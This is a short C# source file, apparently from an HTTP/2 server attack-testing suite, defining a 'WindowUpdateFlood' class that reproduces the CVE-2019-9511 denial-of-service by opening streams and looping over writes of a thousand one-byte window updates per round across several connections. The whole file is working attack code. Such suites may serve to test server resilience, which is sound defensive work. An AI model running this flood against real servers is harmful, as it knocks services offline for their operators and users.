using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Frames;

/// <summary>Gives the server room for one byte more, over and over (CVE-2019-9511 and kin).</summary>
internal sealed class WindowUpdateFlood : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        int stream = await peer.OpenAsync();
        byte[] updates = ((ReadOnlySpan<byte>)Peer.WindowUpdate(stream, 1)).Times(1000);
        for (int round = 0; round < target.Count(20, 1000) && !peer.Gone; round++)
        {
            await peer.WriteAsync(updates);
        }
    });
}
